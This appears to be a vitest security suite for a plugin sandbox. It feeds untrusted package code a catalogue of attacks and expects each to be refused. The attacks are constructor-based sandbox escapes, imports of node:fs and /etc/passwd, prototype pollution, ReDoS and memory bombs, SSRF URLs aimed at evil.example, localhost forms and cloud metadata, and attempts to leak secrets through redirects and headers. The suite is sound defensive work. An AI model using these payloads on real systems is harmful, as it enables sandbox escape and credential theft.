import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { attackBench, secrets, settings } from './testing/attack-bench.ts';

/** What a package in the interpreter may try. After each attempt the same runner calls another, which must work. */
let bench: ReturnType<typeof attackBench>;
beforeAll(() => {
  bench = attackBench();
});
afterAll(() => bench.close());
beforeEach(() => {
  for (const list of [bench.asked, bench.logs, bench.heard, bench.asWorkspace]) list.length = 0;
  bench.kept.clear();
});

async function expectHealthy() {
  const body = `await host.storage.set('a', { n: [1, 2] }); return { kept: await host.storage.get('a'), n: call.arguments.n, region: host.settings.region };`;
  expect(await bench.run(body)).toEqual({ kept: { n: [1, 2] }, n: 1, region: settings.region });
  expect(Object.keys(Object.prototype)).toEqual([]);
}

/** What became of a call: its answer, or the message it failed with. */
const outcome = (body: string, whole?: string): Promise<unknown> =>
  bench.run(body, whole).catch((error: Error) => `failed: ${error.message}`);

/** Sends a question as code that has taken over the driver would. */
const question = (name: string, value: string) =>
  `const answer = await fetch('weft:${name}', { method: 'POST', body: ${value} }); return { status: answer.status, text: (await answer.text()).slice(0, 300) };`;

describe('attack T04: a package that looks for the host', () => {
  it.each<[string, string]>([
    [
      'a constructor of the host',
      `return host.constructor.constructor('return typeof process + typeof __filename')();`,
    ],
    ['the constructor of the call', `return call.constructor.constructor('return typeof process')();`],
    ['the constructor of a function of the host', `return host.log.constructor('return typeof process')();`],
    ['the constructor of fetch', `return fetch.constructor('return typeof process')();`],
    [
      'the constructor of an async function',
      `return await host.storage.get.constructor('return typeof process')() ?? 'undefined';`,
    ],
    [
      'the constructor of an answer',
      `return (await fetch('https://api.example.com/')).constructor.constructor('return typeof process')();`,
    ],
    [
      'the constructor of an error of the host',
      `try { await host.storage.get(1); } catch (error) { return error.constructor.constructor('return typeof process')(); }`,
    ],
    [
      'the prototype of a promise of the host',
      `return Object.getPrototypeOf(host.storage.get('a')).constructor.constructor('return typeof process')();`,
    ],
    [
      'a stream of the host',
      `return (await host.stream('https://api.example.com/')).lines.constructor.constructor('return typeof process')();`,
    ],
    ['indirect eval', `return (0, eval)('typeof process');`],
    ['the receiver of a function', `return (function () { return typeof this?.process; })();`],
    ['the caller', `try { return typeof arguments.callee.caller; } catch { return 'undefined'; }`],
    ['frames of an error', `Error.prepareStackTrace = (_, f) => f; return typeof new Error('x').stack?.[0]?.getThis;`],
  ])('by %s gets nowhere', async (_, body) => {
    expect(JSON.stringify(await outcome(body))).toMatch(/^\{"text":"(undefined)+"\}$/);
    await expectHealthy();
  });

  it.each([
    ...['node:fs', 'fs', '/etc/passwd', 'data:text/javascript,export default 1', 'https://evil.example/x.js'],
    ...['weft:part', '#kernel', './driver.ts'],
  ])('by importing %s is refused', async (name) => {
    expect(await outcome(`return Object.keys(await import('${name}'));`)).toMatch(/^failed: /);
    await expectHealthy();
  });

  it.each(['fs', 'node:child_process', '/etc/passwd', '../driver.ts', '__proto__'])(
    'by requiring %s is refused',
    async (name) => {
      expect(await outcome(`return Object.keys(require('${name}'));`)).toMatch(/^failed: /);
      await expectHealthy();
    },
  );

  it.each(['process', 'Deno', 'std', 'os', 'Worker', 'WebSocket', 'WebAssembly.Memory'])(
    'by %s finds none',
    async (name) => {
      expect(await outcome(`return typeof ${name} === 'undefined' ? [] : '${name}';`)).toSatisfy(
        (found) => JSON.stringify(found) === '[]' || String(found).startsWith('failed: '),
      );
      await expectHealthy();
    },
  );

  it.each<[string, string]>([
    ['fetch', `const own = fetch; globalThis.fetch = async () => { throw 1; }; return own.name;`],
    ['JSON', `JSON.parse = () => ({ forged: 1 }); JSON.stringify = () => '{"text":"1"}'; return { a: 1 };`],
    ['Promise', `Promise.prototype.then = undefined; return { a: 1 };`],
    ['Object.prototype', `Object.prototype.toJSON = () => 'evil'; Object.prototype.$bytes = 'AAAA'; return { a: 1 };`],
    ['Array.prototype', `Array.prototype.push = Array.prototype[Symbol.iterator] = null; return [1];`],
    [
      'what it is given',
      `Object.setPrototypeOf(host, null); host.storage = null; call.arguments = 2; return { a: 1 };`,
    ],
    [
      'all globals',
      `for (const key of Object.getOwnPropertyNames(globalThis)) delete globalThis[key]; return { a: 1 };`,
    ],
    ['bytes', `globalThis.Uint8Array = globalThis.btoa = globalThis.atob = null; return new ArrayBuffer(2);`],
  ])('by replacing %s harms itself at most', async (_, body) => {
    await outcome(body);
    await expectHealthy();
  });

  it.each<[string, string]>([
    ['is a getter that runs', `export default { get tools() { return { get run() { throw new Error('mine'); } }; } };`],
    ['is a proxy', `export default new Proxy({}, { get: () => new Proxy(() => 1, { get: () => 'x' }) });`],
    ['answers with a thenable that never settles', `export default { tools: { run: () => ({ then() {} }) } };`],
    ['answers with a circle', `const a = {}; a.a = a; export default { tools: { run: () => a } };`],
    ['throws what is no error', `export default { tools: { run: () => { throw { toString: null, message: {} }; } } };`],
    ['has no default', `export const tools = 1;`],
    ['does not parse', `export default {{{`],
    ['loops while it is read', `for (;;);`],
    [
      'nests beyond measure',
      `export default { tools: { run: () => { let a = []; for (let n = 0; n < 100000; n++) a = [a]; return a; } } };`,
    ],
  ])('whose module %s costs its own call', async (_, whole) => {
    await outcome('', whole);
    await expectHealthy();
  });
});

describe('attack T04: a package that asks the host', () => {
  it.each<[string, string, RegExp]>([
    ['constructor', `'{}'`, /no host function/],
    ['__proto__', `'{}'`, /no host function/],
    ['toString', `'null'`, /no host function/],
    ['storage.get%00', `'{}'`, /no host function/],
    ['storage', `'{}'`, /no host function/],
    ['storage.get', `'null'`, /key must be a text/],
    ['storage.get', `'{"key":{"toString":1}}'`, /key must be a text/],
    ['storage.set', `'{"__proto__":{"key":"a"},"value":1}'`, /key must be a text/],
    ['storage.list', `'{"prefix":["a"]}'`, /prefix must be a text/],
    ['storage.get', `'{'`, /failed to answer/],
    ['storage.get', `'['.repeat(100000)`, /failed to answer/],
    ['storage.get', `'[' + '0,'.repeat(2000000) + '0]'`, /may hold 500000 values/],
    ['open', `'{"url":1}'`, /url must be a text/],
    ['open', `'{"url":"https://evil.example/"}'`, /not among its permissions/],
    ['open', `'{"url":"https://api.example.com/","headers":{"a":{"toString":1}}}'`, /failed to answer/],
    ['read', `'99'`, /^\{"status":200,"text":"null"\}$/],
    ['read', `'"__proto__"'`, /^\{"status":200,"text":"null"\}$/],
    ['read', `'-1'`, /^\{"status":200,"text":"null"\}$/],
    ['part', `'{"length":5}'`, /^\{"status":200,"text":"null"\}$/],
    ['log', `'{"level":{"toString":1},"text":"x"}'`, /failed to answer/],
    ['model.embedding', `'{"texts":["a"]}'`, /may not call models of the type text-embedding|may not call models/],
    ['model.llm', `'{"messages":[]}'`, /list of messages/],
    ['model.llm', `'{"messages":[{"role":"developer","content":"x"}]}'`, /role of a message/],
    ['model.llm', `'{"provider":{"toString":1},"messages":[{"role":"user","content":"x"}]}'`, /failed to answer/],
  ])('for weft:%s with %s is told what is wrong', async (name, value, said) => {
    expect(JSON.stringify(await outcome(question(name, value)))).toMatch(said);
    await expectHealthy();
  });

  it('as another workspace is itself all the same', async () => {
    const value = `'{"workspaceId":"w2","workspace_id":"w2","installationId":"other","appId":"other","messages":[{"role":"user","content":"x"}]}'`;
    expect(await outcome(question('model.llm', value))).toMatchObject({ status: 200 });
    expect(bench.asWorkspace).toEqual(['w']);
    await expectHealthy();
  });

  it('thousands of times takes neither the database nor the models from others', async () => {
    const all = `const many = (what) => Promise.allSettled(Array.from({ length: 500 }, (_, n) => what(n)));
      await many((n) => host.storage.set('k' + (n % 5), n)); await many(() => host.model.llm({ messages: [{ role: 'user', content: 'x' }] })); return {};`;
    expect(await outcome(all)).toEqual({});
    expect(bench.busy.mostStorage).toBe(1);
    expect(bench.busy.mostModels).toBeLessThanOrEqual(8);
    await expectHealthy();
  });

  it('for a hundred streams at once has eight', async () => {
    const body = `const all = await Promise.allSettled(Array.from({ length: 90 }, () => host.stream('https://api.example.com/'))); return { open: all.filter(({ status }) => status === 'fulfilled').length };`;
    expect(await outcome(body)).toEqual({ open: 8 });
    expect(bench.busy.mostStreams).toBeLessThanOrEqual(8);
    await expectHealthy();
  });

  it.each<[string, string]>([
    ['parts', `for (let n = 0; n < 2000; n++) host.write('x'.repeat(100)); return {};`],
    [
      'lines of its log',
      `for (let n = 0; n < 2000; n++) host.log('info\\n{"level":60}', 'x'.repeat(10000)); return {};`,
    ],
    ['lines it prints', `for (let n = 0; n < 100000; n++) console.log('x'.repeat(100)); return {};`],
    ['requests', `for (let n = 0; n < 150; n++) await fetch('https://api.example.com/').catch(() => 0); return {};`],
  ])('with a flood of %s is bounded', async (_, body) => {
    await outcome(body);
    expect(bench.asked.length).toBeLessThanOrEqual(100);
    expect(bench.logs.length).toBeLessThanOrEqual(100);
    expect(JSON.stringify(bench.logs).length).toBeLessThan(300_000);
    await expectHealthy();
  });

  it.each<[string, string, RegExp]>([
    ['loops', `for (;;);`, /took too long/],
    ['loops in promises', `for (;;) await null;`, /took too long/],
    ['waits for nothing', `await new Promise(() => {});`, /failed|took too long/],
    ['has a regular expression that never ends', `return /^(a+)+$/.test('a'.repeat(60) + 'b') + '';`, /took too long/],
    ['fills its memory', `const all = []; for (;;) all.push('x'.repeat(100000) + all.length);`, /memory|too long/],
    ['asks for a huge buffer', `return new Uint8Array(2 ** 31).length + '';`, /failed|memory/],
    ['answers with too much', `return 'x'.repeat(5 * 1024 * 1024);`, /too much/],
    ['calls itself', `const again = () => again() + 1; return again();`, /failed|stopped/],
  ])('and %s ends', async (_, body, said) => {
    expect(await outcome(body)).toMatch(said);
    await expectHealthy();
  });
});

describe('attack T06: a package that asks the network', () => {
  it.each([
    ...['https://evil.example/', 'http://api.example.com/', 'https://api.example.com:444/'],
    ...['https://api.example.com.evil.example/', 'https://api.example.com./', 'https://api.example.com@evil.example/'],
    ...['https://evil.example#@api.example.com/', 'https://evil.example\\\\@api.example.com/', '//evil.example/'],
    ...['https://user:word@api.example.com/', 'https://wild.example/', 'https://evilwild.example/'],
    ...['http://a.wild.example/', 'https://a.wild.example:8443/', 'http://2852039166:81/', 'http://127.1/'],
    ...['http://0x7f000001/', 'http://[::ffff:127.0.0.1]/', 'http://[::1]/', 'http://localhost/'],
    ...['file:///etc/passwd', 'ftp://api.example.com/', 'gopher://api.example.com/', 'data:text/plain,a', 'blob:x'],
    ...['HTTPS://EVIL.EXAMPLE/', 'https:evil.example', 'https://аpi.example.com/', 'WEFT:storage.get', ' weft:open'],
  ])('at %s, which was not granted, asks nobody', async (url) => {
    expect(await outcome(`return await (await fetch('${url}')).text();`)).toMatch(/^failed: /);
    expect(bench.asked).toEqual([]);
    await expectHealthy();
  });

  it.each(['/away', '/inside', '/nowhere', '/script', '/round'])(
    'by the redirect %s stays where it may',
    async (path) => {
      for (const way of ['fetch', 'host.stream'])
        expect(await outcome(`await ${way}('https://api.example.com${path}'); return {};`)).toMatch(/^failed: /);
      const hosts = new Set(bench.asked.map(({ url }) => new URL(url).host));
      expect([...hosts]).toEqual(['api.example.com']);
      await expectHealthy();
    },
  );

  it('leaves what was put in behind where a redirect changes the origin', async () => {
    await outcome(`await fetch('https://api.example.com/wild', { headers: { Authorization: 'own' } }); return {};`);
    const last = bench.asked.at(-1);
    expect(last?.url).toBe('https://a.wild.example/plain');
    expect(JSON.stringify(last)).not.toMatch(/sk-0123|Basic|secret pin|own/);
    await expectHealthy();
  });

  it('asks an address that a setting names as any other: what is private is refused on the way out', async () => {
    await outcome(`await fetch(host.settings.base_url + '/latest/meta-data'); return {};`);
    expect(bench.asked.map(({ url }) => url)).toEqual(['http://169.254.169.254/latest/meta-data']);
    expect(JSON.stringify(bench.asked[0]?.headers)).not.toMatch(/sk-0123/);
    await expectHealthy();
  });

  it('chooses neither the host, nor credentials, nor how an answer is packed', async () => {
    const headers = `{ Host: 'evil.example', 'x-api-key': 'mine', AUTHORIZATION: 'mine', 'Accept-Encoding': 'zstd' }`;
    await outcome(`await fetch('https://api.example.com/', { headers: ${headers} }); return {};`);
    const names = bench.asked[0]?.headers?.map(([name]) => name.toLowerCase()) ?? [];
    expect(names.toSorted()).toEqual([...new Set(names)].toSorted());
    expect(names).not.toEqual(expect.arrayContaining(['host']));
    expect(names).not.toEqual(expect.arrayContaining(['accept-encoding']));
    expect(JSON.stringify(bench.asked[0]?.headers)).not.toMatch(/mine|evil/);
    await expectHealthy();
  });

  it.each<[string, string]>([
    ['is no JSON', `return await (await fetch('https://api.example.com/bad-json')).json();`],
    ['is huge', `return (await (await fetch('https://api.example.com/huge')).text()).length + '';`],
    [
      'is huge and read as it comes',
      `const all = []; for await (const piece of (await host.stream('https://api.example.com/huge')).body()) all.push(piece); for (;;) all.push(all.slice());`,
    ],
  ])('for an answer that %s fails alone', async (_, body) => {
    expect(await outcome(body)).toMatch(/^failed: /);
    await expectHealthy();
  });
});

describe('attack T09: a package that wants the secrets that are put into its requests', () => {
  const seen = [
    ...[secrets.api_key, secrets.password, `secret pin ${secrets.pin}`, encodeURIComponent(secrets.api_key)],
    ...[Buffer.from(secrets.api_key).toString('base64'), Buffer.from(secrets.api_key).toString('base64url')],
    ...[Buffer.from(`somebody:${secrets.password}`).toString('base64'), Buffer.from(secrets.api_key).toString('hex')],
    ...['sk-0123', '0123%2F456', 'c29tZWJvZHk6'],
  ];
  const paths = [
    'plain',
    'json',
    'headers',
    'latin1',
    'base64',
    'base64url',
    'hex',
    'form',
    'moved',
    'packed',
    'cookie',
  ];
  const read = `{ url: a.url, status: a.status, type: a.statusText, headers: [...a.headers], text: await a.text() }`;

  it.each(paths)('finds none in an answer of /%s', async (path) => {
    const url = `https://api.example.com/${path}`;
    const whole = await outcome(
      `const a = await fetch('${url}', { headers: { 'Accept-Encoding': 'zstd' } }); return ${read};`,
    );
    expect(whole).toMatchObject({ status: 200 });
    const streamed = await outcome(
      `const a = await host.stream('${url}'); let text = ''; for await (const piece of a.body()) text += String.fromCharCode(...piece); return { headers: a.headers, text, status: a.status };`,
    );
    expect(streamed).toMatchObject({ status: 200 });
    const texts = [whole, streamed].map((answer) => JSON.stringify(answer));
    for (const text of texts)
      for (const secret of seen) expect(text).not.toContain(JSON.stringify(secret).slice(1, -1));
    await expectHealthy();
  });

  it('finds none in its settings, its arguments or errors', async () => {
    const body = `const failed = await fetch('https://api.example.com/away').catch((error) => error.message + error.stack);
      return { failed, settings: host.settings, call, all: Object.getOwnPropertyNames(globalThis) };`;
    const found = JSON.stringify(await outcome(body));
    for (const secret of seen) expect(found).not.toContain(JSON.stringify(secret).slice(1, -1));
    await expectHealthy();
  });

  it('reads what it may know as it is: plain settings are not masked', async () => {
    const body = `return await (await fetch('https://api.example.com/plain?where=' + host.settings.region)).text();`;
    expect(JSON.stringify(await outcome(body))).toContain(`where=${settings.region}`);
  });
});

describe('attack T04: a package that is blocked', () => {
  it('ends while its code is read, and while it runs', async () => {
    const blocked = new Error('blocked');
    bench.code.whileRead = () => bench.blockNow(blocked);
    await expect(bench.run(`return {};`)).rejects.toBe(blocked);
    bench.code.whileRead = () => undefined;
    await expect(bench.run(`return {};`)).rejects.toBe(blocked);
    bench.blockNow(null);
    await expectHealthy();
  });
});
